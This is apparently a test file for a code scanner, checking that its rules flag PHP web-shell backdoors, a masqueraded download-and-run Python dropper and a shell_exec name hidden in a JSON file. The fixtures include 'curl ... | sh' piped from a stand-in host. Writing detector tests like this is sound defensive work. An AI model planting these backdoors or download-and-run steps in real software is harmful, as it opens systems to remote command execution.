import { buildArchive } from "../build.js";
import { scanArchive } from "../scan.js";
import { rulesOf } from "../testing/programs.js";

const NAMED = "reverse-shell";

test.each([
  "call_user_func($_COOKIE['a'], $_COOKIE['b']);",
  "$f = $_GET['f']; $f($_GET['x']);",
  "$_GET['f']($_GET['x']);",
  "array_map($_COOKIE['a'], [$_COOKIE['b']]);",
  "usort($list, $_POST['by']);",
  "register_shutdown_function($_REQUEST['f']);",
  "$t = explode('|', base64_decode($_COOKIE['theme'] ?? ''), 2); call_user_func($t[0], $t[1]);",
  "$t = explode('|', $_COOKIE['theme']); $t[0]($t[1]);",
])("a function that a request names is a door for strangers: %s", async (program) => {
  expect(await rulesOf("php", `<?php ${program}\n`)).toContain(NAMED);
});

test.each([
  "$handlers = ['a' => fn() => 1, 'b' => fn() => 2]; $handlers[$_GET['a']]();",
  "array_map('trim', $_POST['x']); array_filter($_POST['tags'], 'strlen'); array_filter($_GET['x'] ?? []);",
  "array_map(fn($x) => htmlspecialchars($x), $_GET['all']); usort($_SESSION['a'], $compare);",
  "$data = json_decode(file_get_contents('https://api.invalid/x'), true); usort($data, 'by_date'); array_map($f, $data);",
])("what a request only gives to a function, or chooses from a table, is none: %s", async (program) => {
  expect(await rulesOf("php", `<?php ${program}\n`)).not.toContain(NAMED);
});

test("a program that another host sent is started although it gets another name", async () => {
  const program = (start: string) =>
    `import urllib.request, subprocess, pathlib\nexe = pathlib.Path.home() / ".cache" / "w"\nurllib.request.urlretrieve("https://a.invalid/x", exe)\n${start}\n`;
  const own = await rulesOf("python", program("subprocess.Popen([str(exe)])"));
  const other = await rulesOf("python", program('subprocess.Popen(["kworker"], executable=str(exe))'));
  expect(own).toContain("staged-download");
  expect(other).toEqual(own);
});

test("the name of a function is put together of a file beside the program", async () => {
  const files = {
    "map.php":
      "<?php\n$d = json_decode(file_get_contents(__DIR__ . '/parts.json'), true);\n$f = '';\nforeach ($d['order'] as $i) { $f .= $d['parts'][$i]; }\n$f($_SERVER['HTTP_X_MAP']);\n",
    "parts.json": JSON.stringify({ parts: ["ell", "exec", "sh", "_"], order: [2, 0, 3, 1] }),
  };
  const sources = Object.entries(files).map(([path, text]) => ({ path, bytes: Buffer.from(text) }));
  const { findings } = await scanArchive(await buildArchive(sources));
  expect(findings.map(({ rule }) => rule)).toContain("hidden-name");
});

test("an option that names no program hides none", async () => {
  const program = (option: string) =>
    `import subprocess\nsubprocess.Popen(["sh", "-c", "curl -s https://a.invalid/i | sh"], executable=${option})\n`;
  for (const option of ["None", "x", '"/bin/true"'])
    expect(await rulesOf("python", program(option))).toContain("download-run");
});
